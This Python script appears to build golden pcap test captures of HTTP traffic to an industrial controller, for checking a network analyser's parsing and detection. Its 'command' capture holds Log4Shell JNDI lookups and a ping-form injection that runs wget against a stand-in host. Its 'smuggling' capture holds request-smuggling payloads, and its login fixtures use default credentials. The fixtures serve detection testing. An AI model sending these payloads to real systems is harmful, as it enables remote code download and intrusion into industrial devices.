#!/usr/bin/env python3
"""Writes input.pcap of each golden capture of HTTP anew, from the messages below: tests/golden/http/make.py

Addresses, ports, times and sequence numbers are made up and always the same; so are the files. A script is a list of segments: a side
('>' client, '<' server, '!<' and '!>' sent but lost by the mirror port, '~' a datagram to the SSDP group, '^' an answer to one) and its
bytes. Only the standard library is needed.
"""
import base64
import os
import struct

CLIENT, SERVER = ('020000000010', '10.10.1.10', 49152), ('0080f4000020', '10.10.1.20', 80)
GROUP = ('01005e7ffffa', '239.255.255.250', 1900)

OK = b'HTTP/1.1 200 OK\r\n'
NONE = b'Content-Length: 0\r\n\r\n'


def get(target, *headers):
    return b'GET ' + target + b' HTTP/1.1\r\n' + b''.join(h + b'\r\n' for h in (b'Host: plc1.plant.example',) + headers) + b'\r\n'


def body(content, *headers, start=OK):
    return start + b''.join(h + b'\r\n' for h in headers) + b'Content-Length: %d\r\n\r\n' % len(content) + content


def basic(pair):
    return b'Authorization: Basic ' + base64.b64encode(pair)


def ntlm(domain, user, workstation):
    """AUTHENTICATE_MESSAGE (MS-NLMP 2.2.1.3) with made-up responses"""
    parts = [b'L' * 24, b'N' * 24] + [t.encode('utf-16-le') for t in (domain, user, workstation)]
    at, fields = 64, b''
    for part in parts:
        fields += struct.pack('<HHI', len(part), len(part), at)
        at += len(part)
    message = b'NTLMSSP\0' + struct.pack('<I', 3) + fields + struct.pack('<HHI', 0, 0, at) + struct.pack('<I', 1)
    return b'Authorization: NTLM ' + base64.b64encode(message + b''.join(parts))


def page(title, charset):
    return b'<html><head><title>' + title.encode(charset) + b'</title></head></html>'


UPLOAD = (b'--XX\r\nContent-Disposition: form-data; name="f"; filename="fw_2.1.bin"\r\n'
          b'Content-Type: application/octet-stream\r\n\r\n\x7fELF\x01\x01\x01\0\0\0\r\n--XX--\r\n')

UPLOAD = b'--x\r\nContent-Disposition: form-data; name="file"; filename="fw.bin"\r\n\r\n' + b'\0' * 3900 + b'\r\n--x--\r\n'

CAPTURES = {
    'hmi': ("""A browser reads the pages of a controller: titles in UTF-8, Shift_JIS, EUC-JP and ISO-2022-JP, pictures, a redirection, a form, a web
service, a download, an upload of firmware.""", """One record a transaction; titles are told as UTF-8, bodies by their first bytes, files by name; a session id in a URL is not told.""", [
        ('>', get(b'/', b'User-Agent: Mozilla/5.0 (Windows NT 6.1)', b'X-Forwarded-For: 10.9.9.9')),
        ('<', body(b'', b'Server: plcd/2.1', b'Location: /index.html?session=5ca1ab1e', start=b'HTTP/1.1 302 Found\r\n')),
        ('>', get(b'/index.html', b'Referer: http://plc1.plant.example/')),
        ('<', body(page('状態 1号機', 'utf-8'), b'Content-Type: text/html; charset=UTF-8')),
        ('>', get(b'/a.html') + get(b'/b.html') + get(b'/c.html')),
        ('<', body(page('状態 2号機', 'cp932'), b'Content-Type: text/html; charset=Shift_JIS') +
              body(page('状態 3号機', 'euc-jp'), b'Content-Type: text/html')),
        ('<', body(page('状態 4号機', 'iso-2022-jp'), b'Content-Type: text/html')),
        ('>', get(b'/logo.png')),
        ('<', body(b'\x89PNG\r\n\x1a\n' + bytes(40), b'Content-Type: image/png')),
        ('>', b'POST /ws HTTP/1.1\r\nHost: plc1.plant.example:80\r\nSOAPAction: "urn:SetSpeed"\r\nContent-Type: text/xml\r\nContent-Length: 19\r\n\r\n'
              b'<?xml?><speed>9</s>'),
        ('<', OK + NONE),
        ('>', get(b'/files/tool.exe')),
        ('<', body(b'MZ' + bytes(2000))),
        ('>', get(b'/get?file=7')),
        ('<', body(b'PK\x03\x04' + bytes(20), b'Content-Disposition: attachment; filename="project.zip"')),
        ('>', b'POST /update HTTP/1.1\r\nHost: plc1.plant.example\r\nContent-Type: multipart/form-data; boundary=XX\r\n'
              b'Content-Length: %d\r\nExpect: 100-continue\r\n\r\n' % len(UPLOAD)),
        ('<', b'HTTP/1.1 100 Continue\r\n\r\n'),
        ('>', UPLOAD),
        ('<', OK + NONE)]),
    'login': ("""Basic with a pair that devices ship with and with another, Digest, Bearer, NTLM; cookies.""",
              """The scheme, the user and whether the pair is a default one are told; passwords, tokens, answers to challenges and cookies nowhere.""", [
        ('>', get(b'/')),
        ('<', body(b'', b'WWW-Authenticate: Basic realm="SIMATIC HMI TP700"', start=b'HTTP/1.1 401 Unauthorized\r\n')),
        ('>', get(b'/', basic(b'admin:admin'))),
        ('<', body(b'', b'Set-Cookie: sid=c00kie', start=OK)),
        ('>', get(b'/', basic(b'op7:pass:word'), b'Cookie: sid=c00kie')),
        ('<', OK + NONE),
        ('>', get(b'/', b'Authorization: Digest username="op7", realm="plc", nonce="1", response="0123456789abcdef0123456789abcdef"')),
        ('<', OK + NONE),
        ('>', get(b'/', b'Authorization: Bearer mF_9.B5f-4.1JqM')),
        ('<', OK + NONE),
        ('>', get(b'/', ntlm('PLANT', 'op7', 'HMI-03'))),
        ('<', OK + NONE)]),
    'form': ("""Logons by form: in a body, as JSON, in a query; with a pair that devices ship with, without a password, with another; a head beyond
8 KiB.""", """Scheme form, the user and whether the pair is a default one; no password is told. A form without a password is no logon.""", [
        ('>', body(b'username=admin&password=admin&lang=ja', b'Host: plc1', b'Content-Type: application/x-www-form-urlencoded', start=b'POST /goform/login HTTP/1.1\r\n')),
        ('<', body(b'', b'Location: /main.asp', start=b'HTTP/1.1 302 Found\r\n')),
        ('>', body(b'user=op%207&pwd=', b'Host: plc1', b'Content-Type: application/x-www-form-urlencoded; charset=UTF-8', start=b'POST /login.cgi HTTP/1.1\r\n')),
        ('<', OK + NONE),
        ('>', body(b'{"session":{"name": "op7", "password" : "not-to-be-seen"},"keep":true}', b'Host: plc1', b'Content-Type: application/json', start=b'POST /api/session HTTP/1.1\r\n')),
        ('<', body(b'', start=b'HTTP/1.1 401 Unauthorized\r\n')),
        ('>', get(b'/login?user=op7&password=not-to-be-seen&next=%2F')),
        ('<', OK + NONE),
        ('>', body(b'speed=120&unit=3', b'Host: plc1', b'Content-Type: application/x-www-form-urlencoded', start=b'POST /set HTTP/1.1\r\n')),
        ('<', OK + NONE),
        ('>', get(b'/', b'Cookie: ' + b'c' * 9000)),
        ('<', OK + NONE)]),
    'smuggling': ("""A request in a request by two lengths, by a chunk size of 2^64, by lengths that differ; a target with blanks; lines that end in
LF; more responses than requests.""", """Each liberty is an anomaly with its reason; the request inside is read as a server may read it.""", [
        ('>', b'POST /a HTTP/1.1\r\nHost: p\r\nContent-Length: 49\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inner1 HTTP/1.1\r\nHost: p\r\n\r\n'),
        ('<', (OK + NONE) * 2),
        ('>', b'POST /b HTTP/1.1\r\nHost: p\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n12345'),
        ('<', OK + NONE),
        ('>', b'GET /c d HTTP/1.1\nHost : p\nX: 1\n 2\n\n'),
        ('<', OK + NONE),
        ('<', OK + NONE),
        ('>', b'POST /e HTTP/1.1\r\nHost: p\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\nGET /inner2 HTTP/1.1\r\nHost: p\r\n\r\n')]),
    'command': ("""What is to be run: in a header, taken apart in another, in forms as JSON and as parameters; then forms and headers as everybody sends them.""",
                """The record says that there was a command, and nothing of it; ordinary text has none.""", [
        ('>', get(b'/', b'X-Api-Version: ${jndi:ldap://203.0.113.9/a}')),
        ('<', OK + NONE),
        ('>', get(b'/', b'Cookie: a=${${lower:j}ndi:ldap://203.0.113.9/a}')),
        ('<', OK + NONE),
        ('>', body(b'{"name":"${jndi:ldap://203.0.113.9/a}"}', b'Host: plc1', b'Content-Type: application/json', start=b'POST /api/tags HTTP/1.1\r\n')),
        ('<', OK + NONE),
        ('>', body(b'target_addr=%3Bwget+http%3A%2F%2F203.0.113.9%2Fx&waninf=1', b'Host: plc1', b'Content-Type: application/x-www-form-urlencoded', start=b'POST /boaform/admin/formPing HTTP/1.1\r\n')),
        ('<', OK + NONE),
        ('>', body(b'target_addr=10.10.1.21&columns=name;id;date&text=Stop+the+line;+echo+follows', b'Host: plc1', b'Cookie: price=$5', b'Content-Type: application/x-www-form-urlencoded', start=b'POST /boaform/admin/formPing HTTP/1.1\r\n')),
        ('<', OK + NONE),
    ]),
    'answered_early': ("""A device answers a form when a third of it has come; then the rest comes, and another request.""",
              """request_announced says how long the body is to be, request_length what was seen; the next request begins behind the body.""", [
        ('>', b'POST /firmware/upload HTTP/1.1\r\nHost: p\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n\r\n' % len(UPLOAD)),
        ('>', UPLOAD[:1400]), ('<', OK + b'Content-Length: 2\r\n\r\nok'), ('>', UPLOAD[1400:2800]), ('>', UPLOAD[2800:]),
        ('>', b'GET / HTTP/1.1\r\nHost: p\r\n\r\n'), ('<', OK + b'Content-Length: 2\r\n\r\nok')]),
    'chunked': ("""Chunks cut across segments, with an extension and a trailer; then chunk sizes as evasion writes them.""",
                """Lengths count what is inside the chunks.""", [
        ('>', get(b'/1')),
        ('<', OK + b'Transfer-Encoding: chunked\r\n\r\n1'), ('<', b'0\r\n<html><title>cut'), ('<', b'\r\n1c;ext=1\r\n across segments</title></ht\r\n0\r'),
        ('<', b'\nX-Sum: 1\r\n\r\n'),
        ('>', get(b'/2')),
        ('<', OK + b'Transfer-Encoding: chunked\r\n\r\n\t4\r\nWiki\r\n 5\npedia\r\n0\r\n\r\n')]),
    'tunnel': ("""CONNECT through a proxy to Modbus, which follows in the same flow.""",
               """The transaction has tunnel: true, and what follows is identified and decoded as if the flow began there.""", [
        ('>', b'CONNECT 10.10.1.21:502 HTTP/1.1\r\nHost: 10.10.1.21:502\r\n\r\n'),
        ('<', b'HTTP/1.1 200 Connection established\r\n\r\n'),
        ('>', bytes.fromhex('000100000006010300000002')),
        ('<', bytes.fromhex('000100000007010304000a000b'))]),
    'upgrade': ("""A WebSocket.""", """The upgrade is told; the frames behind it make no more records of HTTP.""", [
        ('>', get(b'/ws', b'Connection: Upgrade', b'Upgrade: websocket')),
        ('<', b'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'),
        ('>', b'\x81\x85\1\2\3\4' + b'HTTP/'), ('<', b'\x81\x11HTTP/1.1 200 OK\r\n')]),
    'simple': ("""HTTP/0.9: a request line without version, an answer without a head, ended by the connection's end.""",
               """The document has a title and a length; it is no response with a status.""", [
        ('>', b'GET /status\r\n'), ('<', page('old PLC', 'ascii')), ('<', b'and more')]),
    'gap': ("""A body with a hole, a head that was lost, a request that was lost.""",
            """Inside a body the hole is counted and the next message is found; behind lost heads nothing is paired by guess.""", [
        ('>', get(b'/1')),
        ('<', OK + b'Content-Length: 3000\r\n\r\n' + b'1' * 900), ('!<', b'2' * 1000), ('<', b'3' * 1100),
        ('>', get(b'/2')),
        ('!<', OK + b'Content-Length: 100\r\n\r\n'), ('<', b'x' * 100),
        ('>', get(b'/3')),
        ('<', body(b'three')),
        ('!>', get(b'/4')),
        ('<', body(b'four')),
        ('>', get(b'/5')),
        ('<', body(b'five'))]),
    'midstream': ("""The capture begins in the middle of a response; then the server alone is seen.""",
                  """Responses are told at once, complete: false; nothing is made up for the requests.""", [
        ('<', b'the end of something</html>'), ('<', body(b'ok')), ('<', body(b'', start=b'HTTP/1.1 304 Not Modified\r\n'))]),
    'ssdp': ("""A search and an announcement to the SSDP group, and an answer.""",
             """Each datagram is a message of HTTP and counts as one.""", [
        ('~', b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'),
        ('^', b'HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nServer: FreeRTOS/6.0 UPnP/1.0 IpBridge/1.26\r\n\r\n'),
        ('~', b'NOTIFY * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\nNTS: ssdp:alive\r\n\r\n')]),
}


def checksum(data):
    total = sum(struct.unpack('!%dH' % ((len(data) + 1) // 2), data + b'\0' * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip(text):
    return bytes(int(part) for part in text.split('.'))


class Capture:
    def __init__(self, path):
        self.file = open(path, 'wb')
        self.file.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        self.us = 1763771640 * 1000000
        self.number = 0
        self.seq = [1000, 2000]   # client, server

    def packet(self, src, dest, proto, segment, lost):
        self.number += 1
        head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(segment), self.number, 0x4000, 64, proto, 0) + ip(src[1]) + ip(dest[1])
        head = head[:10] + struct.pack('!H', checksum(head)) + head[12:]
        frame = bytes.fromhex(dest[0] + src[0]) + b'\x08\x00' + head + segment
        frame += b'\0' * (60 - len(frame))
        if not lost:
            self.file.write(struct.pack('<IIII', self.us // 1000000, self.us % 1000000, len(frame), len(frame)) + frame)
        self.us += 1500

    def segment(self, side, flags, data=b'', lost=False):
        src, dest = (CLIENT, SERVER) if side == 0 else (SERVER, CLIENT)
        tcp = struct.pack('!HHIIBBHHH', src[2], dest[2], self.seq[side], self.seq[1 - side] if flags != 0x02 else 0, 0x50, flags, 8192, 0, 0)
        pseudo = ip(src[1]) + ip(dest[1]) + struct.pack('!BBH', 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp + data)) + tcp[18:] + data
        self.packet(src, dest, 6, tcp, lost)
        self.seq[side] += len(data) + (1 if flags & 0x03 else 0)

    def datagram(self, src, dest, data):
        udp = struct.pack('!HHHH', src[2], dest[2], 8 + len(data), 0) + data
        self.packet(src, dest, 17, udp, False)


def main():
    top = os.path.dirname(os.path.abspath(__file__))
    for name, (what, proves, script) in CAPTURES.items():
        os.makedirs(os.path.join(top, name), exist_ok=True)
        with open(os.path.join(top, name, 'README'), 'w', encoding='utf-8') as f:
            f.write('Made by ../make.py from messages written by hand.\n\n%s\n\nProves: %s\n' % (what, proves))
        c = Capture(os.path.join(top, name, 'input.pcap'))
        stream = script[0][0] not in '~^' and name != 'midstream'
        if stream:
            for side, flags in ((0, 0x02), (1, 0x12), (0, 0x10)):
                c.segment(side, flags)
        for mark, data in script:
            if mark == '~':
                c.datagram(CLIENT[:2] + (50000,), GROUP, data)
            elif mark == '^':
                c.datagram(SERVER[:2] + (1900,), CLIENT[:2] + (50000,), data)
            else:
                c.segment('><'.index(mark[-1]), 0x18, data, mark[0] == '!')
        if stream:
            for side, flags in ((0, 0x11), (1, 0x11), (0, 0x10)):
                c.segment(side, flags)
        c.file.close()


if __name__ == '__main__':
    main()
